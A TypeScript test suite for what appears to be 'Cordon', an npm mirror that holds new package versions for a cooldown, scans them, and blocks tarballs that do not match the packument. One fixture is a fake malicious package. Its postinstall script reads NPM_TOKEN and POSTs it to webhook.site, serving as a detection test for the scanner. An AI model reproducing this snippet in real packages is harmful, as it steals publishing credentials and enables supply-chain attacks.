import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startTestMirror, DAY, HOUR, visibleVersions } from '../helpers/mirror';
import { FakeUpstream } from '../helpers/fake-upstream';
import { packTarball } from '../helpers/pack-tarball';

const NOW = Date.parse('2026-11-20T12:00:00Z');
const versionsOf = visibleVersions;
const status = async (base: string, name: string): Promise<Record<string, any>> => {
  const body = (await (await fetch(`${base}-/cordon/api/v1/packages/${name}`)).json()) as { versions: Array<Record<string, any>> };
  return Object.fromEntries(body.versions.map((v) => [v.version, v]));
};

test('a new postinstall holds the version past its cooldown; the 403 and the status API name the finding', async () => {
  const m = await startTestMirror({ now: NOW });
  try {
    m.upstream.publish('worm-target', '1.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('worm-target', '1.0.1', {
      time: NOW - HOUR,
      scripts: { postinstall: 'node bundle.js' },
      files: {
        'bundle.js': 'const t = process.env.NPM_TOKEN; require("https").request({ hostname: "webhook.site", method: "POST" }).end(t);',
      },
    });
    m.upstream.publish('clean-lib', '2.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('clean-lib', '2.0.1', { time: NOW - HOUR, files: { 'index.js': 'module.exports = (a, b) => a + b;\n' } });
    await fetch(`${m.mirror.url}worm-target`);
    await fetch(`${m.mirror.url}clean-lib`);
    await m.mirror.pipeline.drain();
    m.clock.advance(10 * DAY);

    assert.deepEqual(await versionsOf(`${m.mirror.url}worm-target`), ['1.0.0']);
    assert.deepEqual(await versionsOf(`${m.mirror.url}clean-lib`), ['2.0.0', '2.0.1']);
    const res = await fetch(`${m.mirror.url}worm-target/-/worm-target-1.0.1.tgz`);
    assert.equal(res.status, 403);
    const body = (await res.json()) as Record<string, string>;
    assert.equal(body.code, 'HELD');
    assert.equal(body.state, 'held');
    assert.match(
      body.error,
      /worm-target@1\.0\.1 is held by Cordon for review: analysis found [a-z-]+\/[a-z-]+ \[critical\]: runs at install time/,
    );

    const st = await status(m.mirror.url, 'worm-target');
    assert.equal(st['1.0.1'].state, 'held');
    assert.equal(st['1.0.1'].analysis.state, 'flagged');
    assert.equal(st['1.0.1'].analysis.previousVersion, '1.0.0');
    assert.match(st['1.0.1'].analysis.findingsDigest, /^[0-9a-f]{64}$/);
    const rules = st['1.0.1'].findings.map((f: { rule: string }) => f.rule);
    assert.ok(rules.includes('install-script/new-postinstall'));
    assert.ok(rules.includes('credentials/token-name'));
    const finding = st['1.0.1'].findings.find((f: { rule: string }) => f.rule === 'credentials/token-name');
    assert.equal(finding.file, 'bundle.js');
    assert.equal(finding.line, 1);
    assert.equal(st['1.0.0'].analysis.state, 'not-required');
    assert.equal((await status(m.mirror.url, 'clean-lib'))['2.0.1'].analysis.state, 'clean');
  } finally {
    await m.stop();
  }
});

test('a brand-new package is analysed against nothing and carries a low new-package finding', async () => {
  const m = await startTestMirror({ now: NOW });
  try {
    m.upstream.publish('brand-new', '0.1.0', { time: NOW - HOUR });
    await fetch(`${m.mirror.url}brand-new`);
    await m.mirror.pipeline.drain();
    const st = await status(m.mirror.url, 'brand-new');
    assert.equal(st['0.1.0'].analysis.previousVersion, null);
    assert.ok(
      st['0.1.0'].findings.some((f: { rule: string; severity: string }) => f.rule === 'metadata/new-package' && f.severity === 'low'),
    );
    m.clock.advance(3 * DAY);
    assert.deepEqual(await versionsOf(`${m.mirror.url}brand-new`), ['0.1.0'], 'low findings do not hold');
  } finally {
    await m.stop();
  }
});

test('transient upstream faults are retried with backoff; after the budget the version is held as unanalyzable', async () => {
  // Faults are retried for CORDON_ANALYSIS_RETRY_FOR (and at least CORDON_ANALYSIS_ATTEMPTS times).
  const m = await startTestMirror({ now: NOW, env: { CORDON_ANALYSIS_ATTEMPTS: '3', CORDON_ANALYSIS_RETRY_FOR: '1m' } });
  try {
    m.upstream.publish('flaky', '1.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('flaky', '1.0.1', { time: NOW - HOUR });
    m.upstream.failTarballs = 1;
    await fetch(`${m.mirror.url}flaky`);
    await m.mirror.pipeline.drain();
    assert.equal((await m.mirror.runtime.store.versions.versionOf('flaky', '1.0.1'))?.analysis, 'pending', 'waiting for its retry');
    m.clock.advance(2_000);
    await m.mirror.pipeline.drain();
    assert.equal((await m.mirror.runtime.store.versions.versionOf('flaky', '1.0.1'))?.analysis, 'clean', 'the retry succeeded');

    m.upstream.publish('flaky', '1.0.2', { time: m.clock.now() });
    m.upstream.failTarballs = 100;
    await fetch(`${m.mirror.url}flaky`);
    for (let i = 0; i < 4; i++) {
      await m.mirror.pipeline.drain();
      m.clock.advance(60_000);
    }
    const record = await m.mirror.runtime.store.versions.versionOf('flaky', '1.0.2');
    assert.equal(record?.state, 'held');
    assert.equal(record?.analysis, 'failed');
    const st = await status(m.mirror.url, 'flaky');
    assert.equal(st['1.0.2'].analysis.attempts, 3);
    assert.equal(st['1.0.2'].findings[0].rule, 'pipeline/unanalyzable');
    m.clock.advance(30 * DAY);
    assert.deepEqual(await versionsOf(`${m.mirror.url}flaky`), ['1.0.0', '1.0.1']);
  } finally {
    await m.stop();
  }
});

test('bytes that do not match the packument block the version', async () => {
  const m = await startTestMirror({ now: NOW });
  try {
    m.upstream.publish('swapped', '1.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('swapped', '1.0.1', { time: NOW - HOUR });
    m.upstream.tarballOverrides.set('swapped-1.0.1.tgz', packTarball({ 'package.json': '{"name":"swapped"}', 'index.js': 'evil()' }));
    await fetch(`${m.mirror.url}swapped`);
    await m.mirror.pipeline.drain();
    const record = await m.mirror.runtime.store.versions.versionOf('swapped', '1.0.1');
    assert.equal(record?.state, 'blocked');
    assert.match(record!.reason, /upstream served other bytes than the ones pinned at first sight/);
    assert.ok((await m.mirror.runtime.store.audit.ofPackage('swapped')).some((e) => e.cause === 'integrity-mismatch'));
  } finally {
    await m.stop();
  }
});

test('the embedded runner resumes after a stop mid-analysis, and nothing is released unanalysed meanwhile', async () => {
  const dataDir = mkdtempSync(join(tmpdir(), 'cordon-resume-'));
  const upstream = await new FakeUpstream().start();
  let started!: () => void;
  const running = new Promise<void>((r) => (started = r));
  const hang = async (): Promise<never> => {
    started();
    return new Promise<never>(() => undefined);
  };
  const { startMirror } = await import('../../server/mirror');
  const { testConfig } = await import('../helpers/mirror');
  const { ManualClock } = await import('../../server/clock');
  const { silentLogger } = await import('../../server/logger');
  const clock = new ManualClock(NOW);
  const config = testConfig(upstream, dataDir);
  let mirror = await startMirror(config, { clock, logger: silentLogger, execute: hang });
  try {
    upstream.publish('slow', '1.0.0', { time: NOW - 30 * DAY });
    upstream.publish('slow', '1.0.1', { time: NOW - HOUR });
    await fetch(`${mirror.url}slow`);
    await running;
    assert.equal((await mirror.runtime.store.jobs.counts()).active, 1);
    clock.advance(10 * DAY);
    assert.deepEqual(await versionsOf(`${mirror.url}slow`), ['1.0.0'], 'cooldown over, analysis unfinished: hidden');
    await mirror.close();

    mirror = await startMirror(config, { clock, logger: silentLogger });
    await mirror.pipeline.drain();
    assert.equal((await mirror.runtime.store.versions.versionOf('slow', '1.0.1'))?.analysis, 'clean');
    assert.deepEqual(await versionsOf(`${mirror.url}slow`), ['1.0.0', '1.0.1']);
  } finally {
    await mirror.close();
    await upstream.stop();
    rmSync(dataDir, { recursive: true, force: true });
  }
});

test('withdrawn upstream (confirmed) and security placeholders (at once) block versions not yet visible', async () => {
  const m = await startTestMirror({ now: NOW, env: { CORDON_WITHDRAW_CONFIRMATIONS: '1', CORDON_WITHDRAW_WINDOW: '0' } });
  try {
    m.upstream.publish('pulled', '1.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('pulled', '1.0.1', { time: NOW - HOUR });
    m.upstream.publish('malware', '2.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('malware', '2.0.1', { time: NOW - HOUR });
    await fetch(`${m.mirror.url}pulled`);
    await fetch(`${m.mirror.url}malware`);
    m.upstream.withdraw('pulled', '1.0.1');
    m.upstream.withdraw('malware', '2.0.0');
    m.upstream.withdraw('malware', '2.0.1');
    m.upstream.publish('malware', '0.0.1-security', { time: NOW, manifest: { description: 'security holding package' } });
    await m.mirror.sweeper.runNow();
    const store = m.mirror.runtime.store;
    assert.equal((await store.versions.versionOf('pulled', '1.0.1'))?.state, 'blocked');
    assert.equal((await store.versions.versionOf('pulled', '1.0.0'))?.state, 'released', 'a released version withdrawn upstream stays');
    assert.equal(
      (await store.versions.versionOf('malware', '2.0.0'))?.state,
      'blocked',
      'a security placeholder blocks released versions too',
    );
    assert.equal((await store.versions.versionOf('malware', '2.0.1'))?.state, 'blocked');
    assert.ok((await store.audit.ofPackage('malware')).some((e) => e.cause === 'security-placeholder'));
    assert.ok((await store.audit.ofPackage('pulled')).some((e) => e.cause === 'withdrawn-upstream'));
  } finally {
    await m.stop();
  }
});
